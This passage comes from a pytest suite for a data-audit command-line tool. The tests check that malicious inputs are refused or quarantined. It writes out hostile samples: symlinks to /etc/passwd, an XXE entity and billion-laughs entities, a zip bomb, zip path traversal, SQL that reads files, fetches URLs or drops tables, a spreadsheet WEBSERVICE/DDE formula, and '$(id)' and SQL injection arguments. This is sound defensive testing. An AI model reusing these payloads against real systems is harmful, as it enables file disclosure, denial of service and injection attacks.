    "a file name of no letters": (named(b"\xff.csv"), r"u\\udcff.csv has a sign in its name"),
    "a file name that steers the terminal": (named(b"\x1b[2J\n.csv"), r"\\x1b\[2J\\n.csv has a sign in its name"),
    "a file name turned around": (named("\u202evsc.csv".encode()), r"\\u202evsc.csv has a sign in its name"),
    "a link to a file elsewhere": (link("evidence.csv", "/etc/passwd"), "link that leads out of the project"),
    "a link to an endless file": (link("evidence.csv", "/dev/zero"), "There is no inputs/evidence.csv"),
    "a link to itself": (link("evidence.csv", "evidence.csv"), "There is no inputs/evidence.csv"),
    "a link among the indicators": (link("indicators/x.sql", "/etc/passwd"), "link that leads out of the project"),
    "a folder for a file": (lambda root: ((root / "inputs/evidence.csv").unlink(), (root / "inputs/evidence.csv").mkdir()), "There is no inputs/evidence.csv"),
    "entities of entities": (workbook(lambda text: text.replace(b"?>", b"?><!DOCTYPE a [" + LAUGHS + b"]>").replace(b">x<", b">&l9;<")), "not a readable XLSX"),
    "an entity of a file": (workbook(lambda text: text.replace(b"?>", b'?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>').replace(b">x<", b">&e;<")), "not a readable XLSX"),
    "half a letter in a workbook": (workbook(lambda text: text.replace(b">x<", b">&#xD800;<")), "not a readable XLSX"),
    "a workbook that unpacks for ever": (bomb, "unpacks to more than 512 MB"),
    "a workbook that lies about its size": (liar, "is a damaged workbook"),
    "a sheet that is another file": (workbook(lambda text: text.replace(b"worksheets/sheet1.xml", b"../../../../etc/passwd"), "xl/_rels/workbook.xml.rels"), "not a readable XLSX"),
    "a sheet on another machine": (workbook(lambda text: text.replace(b"worksheets/sheet1.xml", b"http://127.0.0.1:9/s"), "xl/_rels/workbook.xml.rels"), "not a readable XLSX"),
    "two cells far apart": (cell(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "too far apart"),
    "a cell beyond every sheet": (cell(b'<row r="99999999"><c r="ZZZZZZ99999999"><v>1</v></c></row>'), "too far apart"),
    "a cell far away in other signs": (cell(b"<q:row r='1'><q:c\nr\n=\n'xfd0000001048576'><v>1</v></q:c></q:row>"), "too far apart"),
    "cells without a place": (cell(b"<row>" + b"<c><v>1</v></c>" * 16_000 + b'</row><row r="1048000"><c r="A1048000"/></row>'), "too far apart"),
    "a tag that is stretched": (cell(b'<row r="9"><c r' + b" " * 3_000_000 + b'="XFD1048576"><v>1</v></c></row>'), "is a damaged workbook"),
    "a word a million times": (parquet(fact_id=many("F", 100_000), reason=many("x" * 1_000_000, 100_000)), "more than 2 GB"),
    "rows without end": (parquet(fact_id=many("F7", 10_000_001), reason=pa.nulls(10_000_001, pa.string())), "10,000,000 rows"),
    "settings nested too deep": (settings("x = " + "[" * 20_000 + "]" * 20_000), "nested too deep"),
    "a number that takes hours": (settings("x = " + "9" * 10_000), "too long, or nested too deep"),
    "a setting of the wrong type": (settings("paper = 7"), "paper: "),
    "a ruleset elsewhere": (settings('ruleset = "../../x"'), "ruleset: "),
    "half a letter in the settings": (settings('event = "\\ud800"'), "not valid TOML"),
    "a table elsewhere": (table('evidence = "/etc/passwd"'), "must be a path inside the project"),
    "a table of NUL": (table('evidence = "inputs/\\u0000.csv"'), r"no file matches 'inputs/\\x00.csv'"),
    "a query that reads a file": (query(f"{FIGURE} from read_text('/etc/passwd')"), "disabled by configuration"),
    "a query that fetches": (query(f"{FIGURE} from read_csv('http://127.0.0.1:9/x')"), "disabled by configuration"),
    "a query that drops": (query(f"drop table clean.evidence; {FIGURE}"), "one query"),
}  # fmt: skip
"""Inputs that cannot be used at all: how a project gets them, and what the refusal says."""


@pytest.fixture(scope="module")
def untouched(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return new_project(tmp_path_factory.mktemp("untouched") / "project")


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_read_is_refused_in_one_sentence(untouched: Path, tmp_path: Path, name: str) -> None:
    """The sentence can be printed on any terminal; nothing is published, fetched or run."""
    root = tmp_path / "project"
    shutil.copytree(untouched, root)
    change, sentence = REFUSED[name]
    change(root)
    with pytest.raises(ProjectError, match=sentence) as caught:
        run(root)
    assert str(caught.value).isprintable()
    assert len(str(caught.value)) < 600
    assert [path.name for path in (root / "reports").iterdir()] == ["templates"]
    assert not list(tmp_path.rglob(CANARY))


def test_what_was_published_stays_when_the_next_run_is_refused(plain: Path) -> None:
    """To the byte."""
    before = {path: path.read_bytes() for path in plain.rglob("*") if path.is_file()}
    root = plain.parents[1]
    kept = (root / "inputs" / "bodies.csv").read_bytes()
    (root / "inputs" / "bodies.csv").write_bytes(b"\xff")
    with pytest.raises(ProjectError):
        run(root)
    (root / "inputs" / "bodies.csv").write_bytes(kept)
    assert {path: path.read_bytes() for path in plain.rglob("*") if path.is_file()} == before


@pytest.mark.parametrize(
    "sql",
    [
        "copy (select 1) to 'canary'",
        f"install httpfs; load httpfs; {FIGURE}",
        f"attach 'canary' as other; {FIGURE}",
        "export database 'canary'",
        f"{FIGURE}; delete from clean.evidence",
        "create table figures as select 1",
        "pragma database_list",
    ],
)
def test_an_indicator_is_one_query(untouched: Path, tmp_path: Path, sql: str) -> None:
    """Nothing that writes, fetches or changes what others read."""
    root = tmp_path / "project"
    shutil.copytree(untouched, root)
    query(sql)(root)
    with pytest.raises(ProjectError, match="one query"):
        indicators(find_project(root))
    assert not list(tmp_path.rglob(CANARY))


def odd(root: Path) -> None:
    """Files that are strange and can be read: each gives rows, or rows that are held."""
    write_workbook(root / "inputs" / "unused_facts.xlsx", GOOD_SHEET)
    formula = b'<c r="B2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/x")</f><v>=cmd|x</v></c>'
    workbook(lambda text: re.sub(rb'<c r="B2".*?</c>', lambda _: formula, text))(root)
    formats = b'<row r="1048575"><c r="XFD1048575" s="1"/></row><row r="1048576" s="1"/></sheetData>'
    workbook(lambda text: text.replace(b"</sheetData>", formats), rewritten=True)(root)
    far = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://x/externalLinkPath" Target="http://127.0.0.1:9/x.xlsx" TargetMode="External"/></Relationships>'
    with zipfile.ZipFile(root / "inputs" / "unused_facts.xlsx", "a") as archive:
        archive.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", far)
        archive.writestr("../../../canary", b"x")
        archive.writestr("/canary", b"x")
    contradiction = {"question": "q", "says_a": "a", "records_a": "E1", "says_b": "b", "records_b": "E2", "explained_by": "unresolved", "explanation": "e"}  # fmt: skip
    lines = [
        json.dumps({"contradiction_id": "C1", **contradiction}),
        '{"contradiction_id": "C2", "question": "\\ud800"}',
        '{"contradiction_id":' + "[" * 100_000 + "]" * 100_000 + "}",
        json.dumps({"contradiction_id": "C4", **contradiction, "says_a": "a\0b"}),
        json.dumps({"contradiction_id": "C5", **contradiction, "says_a": "x" * 2_000_000}),
    ]
    (root / "inputs" / "contradictions.jsonl").write_text("\n".join(lines), "utf-8")
    strange = {"label": [float("inf"), float("nan"), 1e300], "day": [date(1900, 2, 28), None, date(9999, 12, 31)]}
    pq.write_table(pa.table({"day_id": ["D1", "D2", "D3"], **strange}), root / "inputs" / "reading_days.parquet")
    dates = [["viewpoint_id", "label"], *([f"V{n}", number] for n, number in enumerate((-1, 60, 2958466, 99999999999)))]
    write_workbook(root / "inputs" / "viewpoints.xlsx", {"viewpoints": dates})


def test_strange_files_cost_their_own_rows_only(untouched: Path, tmp_path: Path) -> None:
    """Formulas are their values, links of workbooks are nobody's, wrong types are text that is judged as text."""
    root = tmp_path / "project"
    shutil.copytree(untouched, root)
    odd(root)
    found = inspect(root)
    assert {(fault["table_name"], fault["row"], fault["rule"]) for fault in found.quarantine} == {
        ("contradictions", 2, "E003"),
        ("contradictions", 3, "E007"),
        ("contradictions", 4, "E105"),
        ("contradictions", 5, "E103"),
        ("reading_days", 2, "E101"),
        ("reading_days", 3, "E106"),
    }
    assert found.report.by_table["unused_facts"].loaded == 2
    assert not list(tmp_path.rglob(CANARY))


def test_a_copy_is_looked_for_inside_the_project_only(untouched: Path, tmp_path: Path) -> None:
    """Whatever its path is; a name that no disk can have is a copy that is not there."""
    copies = {
        "x" * 1_900: "missing",
        "../../../etc/passwd": "outside",
        "/etc/passwd": "outside",
        "loop": "missing",
        "~": "missing",
    }
    root = tmp_path / "project"
    shutil.copytree(untouched, root)
    (root / "loop").symlink_to("loop")
    rows = [
        {**GOOD["sources"], "source_id": f"C{n}", "copy": copy, "sha256": "0" * 64} for n, copy in enumerate(copies)
    ]
    add(root, "sources", rows)
    assert {one.copy: one.state for one in inspect(root).copies} == copies


# A hundred thousand rows about one thing.


@pytest.fixture(scope="module")
def flooded(tmp_path_factory: pytest.TempPathFactory, audited: Audited) -> tuple[Path, Results]:
    """A project in which 100,000 records of a stranger bear on one criterion; its settings are hostile too."""
    settings = (audited.root / "scaudit.toml").read_text("utf-8")
    root = new_project(tmp_path_factory.mktemp("flooded") / "project", settings)
    add(root, "recommendations", [{**GOOD["recommendations"], "item_id": ITEM}])
    add(root, "criteria", [{**GOOD["criteria"], "criterion_id": CRITERION}])
    stances = ("supports", "contradicts", "partly", "context")
    first = date(2019, 1, 1).toordinal()
    add(root, "evidence", [
        {**GOOD["evidence"], "evidence_id": f"M{n:06}", "stance": stances[n % 4], "method_stated": "true",
         "event_from": date.fromordinal(first + n % 1_460).isoformat(), "finding": f"Finding {n} of very many."}
        for n in range(100_000)
    ])  # fmt: skip
    return root, run(root)


def test_a_flood_of_records_is_held_whole_and_flagged(flooded: tuple[Path, Results]) -> None:
    """The cost of weighing grows with the records; whichever were weighed, somebody would win by order in the file."""
    _, results = flooded
    assert [len(results.records_of(key)) for key in (CRITERION, "FSA/R1.a")] == [0, 1]
    assert results.run["quarantined"] == 100_000
    assert {fault["rule"] for fault in results.quarantine} == {"E316"}
    assert results.rung(CRITERION, "verified")["rung"] == 0
    assert "incomplete" in results.status(ITEM, "verified")["flags"]


def test_a_flood_stays_short_on_the_page(flooded: tuple[Path, Results]) -> None:
    """The card and the overview list what a reader may turn, and say how much more there is and where."""
    root, _ = flooded
    folder = root / "reports" / DAY.isoformat()
    card, overview = (
        (folder / "items" / f"{slug(ITEM)}.html").read_text("utf-8"),
        (folder / "overview.html").read_text("utf-8"),
    )
    assert max(len(card), len(overview)) < 1_000_000
    assert "99,500 more rows" in Page(card).words
    assert "99,500 more; scaudit check lists every row" in Page(overview).words
    assert len(json.loads((folder / "items" / f"{slug(ITEM)}.json").read_text("utf-8"))["quarantine"]) == 100_000


@pytest.mark.parametrize("item_id", CLEAN)
def test_a_flood_does_not_touch_the_other_cards(flooded: tuple[Path, Results], plain: Path, item_id: str) -> None:
    """They say what they say without it."""
    name = f"items/{slug(item_id)}.json"
    assert told(flooded[0] / "reports" / DAY.isoformat() / name) == told(plain / name)


def test_a_card_lists_two_thousand_records_and_says_how_many_more() -> None:
    """The others are in the data; the picture of time draws those that are cited and the strongest."""
    records = [
        record(n, "SYN-1/R1.a", evidence_id=f"S{n:05}", fact_id=f"F{n}", disposition="counted")
        for n in range(annex.LISTED + 300)
    ]
    bare = [{**row, "binding": [], "standing": []} for row in some_results().rungs]
    card = item_card(some_results(records=records, rungs=bare), "SYN-1/R1")
    assert sum(len(group.entries) for group in card.annex) == annex.LISTED
    assert [group.more for group in card.annex if group.more] == [300]
    assert card.timeline is not None
    assert len(card.timeline.marks) <= 300
    assert "for which there is no room" in card.timeline.note


# The command line.


def command(monkeypatch: pytest.MonkeyPatch, *words: str) -> int:
    monkeypatch.setattr(sys, "argv", ["scaudit", *words])
    with pytest.raises(SystemExit) as left:
        main()
    return int(left.value.code or 0)


@pytest.mark.parametrize(
    "edition",
    ["../x", "/tmp/x", "a/b", "a\\b", ".x", "x.", "CON", "nul.2024", "com1", "a..b", "templates", "Templates", "-x", "x" * 81,
     "x\n", "\x1b[2J", "\u202ex", "\udcff", "x y", "~", "$(id)"],
)  # fmt: skip
def test_an_edition_has_a_plain_name(
    untouched: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], edition: str
) -> None:
    """It becomes a folder, on any system; another name is refused and nothing of it steers the terminal."""
    assert command(monkeypatch, "audit", "--no-pdf", f"--edition={edition}", "--project", str(untouched)) == 2
    told = capsys.readouterr().err
    assert "is no name for an edition" in told
    assert told.rstrip("\n").isprintable()
    assert [path.name for path in (untouched / "reports").iterdir()] == ["templates"]


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("audit", "--no-pdf", "\udcff\udcfe"), 2),
        (("audit", "--run", "../../x"), 2),
        (("report", "\x1b[2J"), 3),
        (("explain", "\x1b[2J\udcff"), 2),
        (("compare", "--ruleset", "../../x", "ladder-1"), 3),
        (("compare", "--from", "\udcff", "--to", "end"), 2),
        (("compare", "--runs", "'; drop table runs; --", "last"), 2),
        (("audit", "--as-of", "0000-01-01"), 2),
        (("audit", "--as-of", "2022-02-31"), 2),
        (("verify", "/dev/null"), 1),
        (("check", "--project", "\x1b[2J"), 3),
    ],
)
def test_no_argument_is_a_mistake_of_ours(
    untouched: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    words: tuple[str, ...], code: int,
) -> None:  # fmt: skip
    """Each is refused as one, without a traceback, in words that can be printed."""
    shutil.copytree(untouched, tmp_path / "project")
    monkeypatch.chdir(tmp_path / "project")
    assert command(monkeypatch, *words) == code
    said = capsys.readouterr()
    assert "Traceback" not in said.err
    assert (said.err + said.out).replace("\n", "").isprintable()


def test_silence_has_a_last_day() -> None:
    """A question of the last day there is was never answered late."""
    with pytest.raises(UsageError, match="No answer could have come"):
        silence_csv(some_results(), ["SYN-1/R1"], date(9999, 12, 31), 60)


@pytest.mark.parametrize(
    ("identifier", "name"),
    [
        ("CON", "~43.ON"), ("nul.txt", "~6e.ul.txt"), ("Com1", "~43.om1"), ("-rf", "~2d.rf"), ("CON/x", "CON_x"),
        ("CONE", "CONE"), ("a_b", "a~ub"), ("..", "~2e.."), ("a b\0", "a~20.b~0."),
    ],
)  # fmt: skip
def test_the_file_of_an_id_is_one_anywhere(identifier: str, name: str) -> None:
    """No device, no option of a command, no folder above; and read back in one way only."""
    assert slug(identifier) == name


def test_the_table_of_check_steers_no_terminal(
    audited: Audited, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """All that is held is told in signs that can be seen, whatever was in it."""
    assert command(monkeypatch, "check", "--project", str(audited.root)) == 0
    said = capsys.readouterr().out
    assert "bidirectional" in said
    assert said.replace("\n", "").isprintable()
